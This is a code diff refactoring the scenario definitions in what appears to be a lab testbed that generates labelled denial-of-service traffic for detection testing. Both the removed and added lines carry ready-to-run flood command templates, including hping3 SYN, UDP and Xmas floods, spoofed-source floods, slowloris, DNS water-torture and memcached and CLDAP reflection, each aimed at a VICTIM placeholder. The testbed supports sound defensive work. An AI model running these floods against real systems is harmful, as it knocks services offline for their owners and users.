@@ -12,42 +12,41 @@ import (
 
 // otherFloods: scripts that everybody finds, rates of a class-room, odd packets.
 func otherFloods() []Scenario {
-	row := func(name string, near bool, line string) Scenario {
-		return Scenario{Name: name, Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: near,
-			Play: func(ctx context.Context, r *Run) error { return floodOne(ctx, r, line) }}
+	slow, fast := flooding, flooding.nearby()
+	at := func(victim func(context.Context, *Run) (*Host, error)) family {
+		return fast.by(func(ctx context.Context, r *Run, line string) error { return floodService(ctx, r, line, victim) })
 	}
-	at := func(name, line string, victim func(context.Context, *Run) (*Host, error)) Scenario {
-		return Scenario{Name: name, Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: true,
-			Play: func(ctx context.Context, r *Run) error { return floodService(ctx, r, line, victim) }}
+	service := func(name string) family {
+		return at(func(ctx context.Context, r *Run) (*Host, error) { return r.service(ctx, name) })
 	}
 	return []Scenario{
-		row("slowloris-script", false, "SLOW headers VICTIM FEW 8 35"),
-		row("rudy-script", false, "SLOW body VICTIM FEW 6 35"),
-		row("pipelined", true, "CANNON pipeline VICTIM 80 THREADS 3 SECS"),
-		row("button-http", true, "CANNON http VICTIM 80 THREADS 8 SECS"),
-		row("button-tcp", true, "CANNON tcp VICTIM 80 THREADS 50 SECS"),
-		row("button-udp", true, "CANNON udp VICTIM 80 THREADS 50 SECS"),
-		row("tls-handshakes", true, "for i in 1 2 3 4; do timeout SECS openssl s_time -connect VICTIM:443 -new -time 20 & done; wait"),
-		row("curl-crowd", true, "for i in $(seq 25); do timeout SECS sh -c 'while :; do curl -s -o /dev/null http://VICTIM/search?q=a; done' & done; wait"),
-		row("gentle-icmp", true, "timeout SECS hping3 -q -1 -d 56 -i uGENTLE VICTIM"),
-		row("gentle-udp", true, "timeout SECS hping3 -q -2 -p 80 -d 100 -i uGENTLE VICTIM"),
-		row("gentle-syn", true, "timeout SECS hping3 -q -S -p 80 -i uGENTLE VICTIM"),
-		row("brief-syn", true, "timeout 2.5 hping3 -q -S -p 80 -i u400 VICTIM"),
-		row("brief-udp", true, "timeout 2.5 hping3 -q -2 -p 53 -d 800 -i u400 VICTIM"),
-		row("brief-icmp", true, "timeout 2.5 ping -q -f -s 1000 VICTIM"),
-		row("ping-of-death", true, "timeout SECS ping -q -s 65000 -i 0.02 VICTIM"),
-		row("udp-fragments", true, "timeout SECS hping3 -q -2 -p 53 -d 3000 -i u4000 VICTIM"),
+		slow.row("slowloris-script", "SLOW headers VICTIM FEW 8 35"),
+		slow.row("rudy-script", "SLOW body VICTIM FEW 6 35"),
+		fast.row("pipelined", "CANNON pipeline VICTIM 80 THREADS 3 SECS"),
+		fast.row("button-http", "CANNON http VICTIM 80 THREADS 8 SECS"),
+		fast.row("button-tcp", "CANNON tcp VICTIM 80 THREADS 50 SECS"),
+		fast.row("button-udp", "CANNON udp VICTIM 80 THREADS 50 SECS"),
+		fast.row("tls-handshakes", "for i in 1 2 3 4; do timeout SECS openssl s_time -connect VICTIM:443 -new -time 20 & done; wait"),
+		fast.row("curl-crowd", "for i in $(seq 25); do timeout SECS sh -c 'while :; do curl -s -o /dev/null http://VICTIM/search?q=a; done' & done; wait"),
+		fast.row("gentle-icmp", "timeout SECS hping3 -q -1 -d 56 -i uGENTLE VICTIM"),
+		fast.row("gentle-udp", "timeout SECS hping3 -q -2 -p 80 -d 100 -i uGENTLE VICTIM"),
+		fast.row("gentle-syn", "timeout SECS hping3 -q -S -p 80 -i uGENTLE VICTIM"),
+		fast.row("brief-syn", "timeout 2.5 hping3 -q -S -p 80 -i u400 VICTIM"),
+		fast.row("brief-udp", "timeout 2.5 hping3 -q -2 -p 53 -d 800 -i u400 VICTIM"),
+		fast.row("brief-icmp", "timeout 2.5 ping -q -f -s 1000 VICTIM"),
+		fast.row("ping-of-death", "timeout SECS ping -q -s 65000 -i 0.02 VICTIM"),
+		fast.row("udp-fragments", "timeout SECS hping3 -q -2 -p 53 -d 3000 -i u4000 VICTIM"),
 		{Name: "land", Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: true, Play: land},
-		row("blacknurse", true, "timeout SECS hping3 -q -1 -C 3 -K 3 -i uGAPU VICTIM"),
-		row("fin-flood", true, "timeout SECS hping3 -q -F -p 80 -i uGAPU VICTIM"),
-		row("rst-flood", true, "timeout SECS hping3 -q -R -p 443 -i uGAPU VICTIM"),
-		row("xmas-flood", true, "timeout SECS hping3 -q -F -S -R -P -A -U -X -Y -p 80 -i uGAPU VICTIM"),
-		also(attack.PortScan, row("syn-all-ports", true, "timeout SECS hping3 -q -S -p ++1 -i uGAPU VICTIM")),
-		at("water-torture", "awk 'BEGIN{srand(SEED);for(i=0;i<6000;i++)print substr(rand(),3,9) \"x.lab A\"}' > names; dnsperf -s VICTIM -d names -l SECS -Q 300 -q 20", dnsHost),
-		at("dns-any", "yes 'news.lab ANY' | head -5000 > names; dnsperf -s VICTIM -d names -l SECS -Q 600", dnsHost),
-		at("sip-invites", "SIP invite VICTIM 100 x 0.004 2000", func(ctx context.Context, r *Run) (*Host, error) { return r.service(ctx, "sip") }),
-		at("redis-connects", "SELF dial -to VICTIM:6379 -rate 250 -for SECSs", func(ctx context.Context, r *Run) (*Host, error) { return r.service(ctx, "redis") }),
-		at("ssh-connects", "SELF dial -to VICTIM:22 -rate 120 -for SECSs -hold 10s", func(_ context.Context, r *Run) (*Host, error) { return r.Files, nil }),
+		fast.row("blacknurse", "timeout SECS hping3 -q -1 -C 3 -K 3 -i uGAPU VICTIM"),
+		fast.row("fin-flood", "timeout SECS hping3 -q -F -p 80 -i uGAPU VICTIM"),
+		fast.row("rst-flood", "timeout SECS hping3 -q -R -p 443 -i uGAPU VICTIM"),
+		fast.row("xmas-flood", "timeout SECS hping3 -q -F -S -R -P -A -U -X -Y -p 80 -i uGAPU VICTIM"),
+		fast.row("syn-all-ports", "timeout SECS hping3 -q -S -p ++1 -i uGAPU VICTIM", attack.PortScan),
+		at(dnsHost).row("water-torture", "awk 'BEGIN{srand(SEED);for(i=0;i<6000;i++)print substr(rand(),3,9) \"x.lab A\"}' > names; dnsperf -s VICTIM -d names -l SECS -Q 300 -q 20"),
+		at(dnsHost).row("dns-any", "yes 'news.lab ANY' | head -5000 > names; dnsperf -s VICTIM -d names -l SECS -Q 600"),
+		service("sip").row("sip-invites", "SIP invite VICTIM 100 x 0.004 2000"),
+		service("redis").row("redis-connects", "SELF dial -to VICTIM:6379 -rate 250 -for SECSs"),
+		at(func(_ context.Context, r *Run) (*Host, error) { return r.Files, nil }).row("ssh-connects", "SELF dial -to VICTIM:22 -rate 120 -for SECSs -hold 10s"),
 		{Name: "from-inside-syn", Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: true, Play: func(ctx context.Context, r *Run) error {
 			r.Truth.Attackers = append(r.Truth.Attackers, r.People[0].Addr)
 			r.against(r.News)
@@ -86,27 +85,20 @@ func land(ctx context.Context, r *Run) error {
 
 // otherDistributed: few bots, low rates, other reflectors, the whole network at once.
 func otherDistributed() []Scenario {
-	row := func(name, line string) Scenario {
-		return Scenario{Name: name, Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 40 * time.Second, Near: true,
-			Play: func(ctx context.Context, r *Run) error { return floodMany(ctx, r, line) }}
-	}
-	few := func(name, line string) Scenario {
-		return Scenario{Name: name, Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 45 * time.Second, Near: true,
-			Play: func(ctx context.Context, r *Run) error { return floodFew(ctx, r, line) }}
-	}
+	few := floodingTogether.within(45 * time.Second).by(floodFew)
 	return []Scenario{
-		row("spoofed-gentle", "timeout SECS hping3 -q -S --rand-source -p 80 -i uGENTLE VICTIM"),
-		row("spoofed-brief", "timeout 2.5 hping3 -q -2 --rand-source -p 80 -d 500 -i u500 VICTIM"),
-		row("spoofed-fin", "timeout SECS hping3 -q -F --rand-source -p 80 -i uGAPU VICTIM"),
-		row("memcached-reflection", "SELF reflect -to VICTIM -from BOTNET -port 11211 -size 1400 -reflectors 12 -rate 3000 -for SECSs"),
-		row("cldap-reflection", "SELF reflect -to VICTIM -from BOTNET -port 389 -size 1450 -reflectors 60 -rate 1500 -for SECSs"),
-		row("chargen-reflection", "SELF reflect -to VICTIM -from BOTNET -port 19 -size 1020 -reflectors 25 -rate 800 -for SECSs"),
-		row("snmp-reflection-gentle", "SELF reflect -to VICTIM -from BOTNET -port 161 -size 900 -reflectors 30 -rate 200 -for SECSs"),
-		few("few-bots-syn", "timeout SECS hping3 -q -S -p 80 -i u3000 VICTIM"),
-		few("few-bots-udp", "timeout SECS hping3 -q -2 -p 80 -d 600 -i u5000 VICTIM"),
-		few("few-bots-icmp", "timeout SECS hping3 -q -1 -d 1000 -i u5000 VICTIM"),
-		few("few-bots-get", "SELF flood -url http://VICTIM/search -workers 6 -rate 12 -for SECSs -seed SEED"),
-		few("few-bots-slow", "SLOW headers VICTIM 25 8 30"),
+		floodingTogether.row("spoofed-gentle", "timeout SECS hping3 -q -S --rand-source -p 80 -i uGENTLE VICTIM"),
+		floodingTogether.row("spoofed-brief", "timeout 2.5 hping3 -q -2 --rand-source -p 80 -d 500 -i u500 VICTIM"),
+		floodingTogether.row("spoofed-fin", "timeout SECS hping3 -q -F --rand-source -p 80 -i uGAPU VICTIM"),
+		floodingTogether.row("memcached-reflection", "SELF reflect -to VICTIM -from BOTNET -port 11211 -size 1400 -reflectors 12 -rate 3000 -for SECSs"),
+		floodingTogether.row("cldap-reflection", "SELF reflect -to VICTIM -from BOTNET -port 389 -size 1450 -reflectors 60 -rate 1500 -for SECSs"),
+		floodingTogether.row("chargen-reflection", "SELF reflect -to VICTIM -from BOTNET -port 19 -size 1020 -reflectors 25 -rate 800 -for SECSs"),
+		floodingTogether.row("snmp-reflection-gentle", "SELF reflect -to VICTIM -from BOTNET -port 161 -size 900 -reflectors 30 -rate 200 -for SECSs"),
+		few.row("few-bots-syn", "timeout SECS hping3 -q -S -p 80 -i u3000 VICTIM"),
+		few.row("few-bots-udp", "timeout SECS hping3 -q -2 -p 80 -d 600 -i u5000 VICTIM"),
+		few.row("few-bots-icmp", "timeout SECS hping3 -q -1 -d 1000 -i u5000 VICTIM"),
+		few.row("few-bots-get", "SELF flood -url http://VICTIM/search -workers 6 -rate 12 -for SECSs -seed SEED"),
+		few.row("few-bots-slow", "SLOW headers VICTIM 25 8 30"),
 		{Name: "smurf", Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 40 * time.Second, Near: true, Play: smurf},
 	}
 }
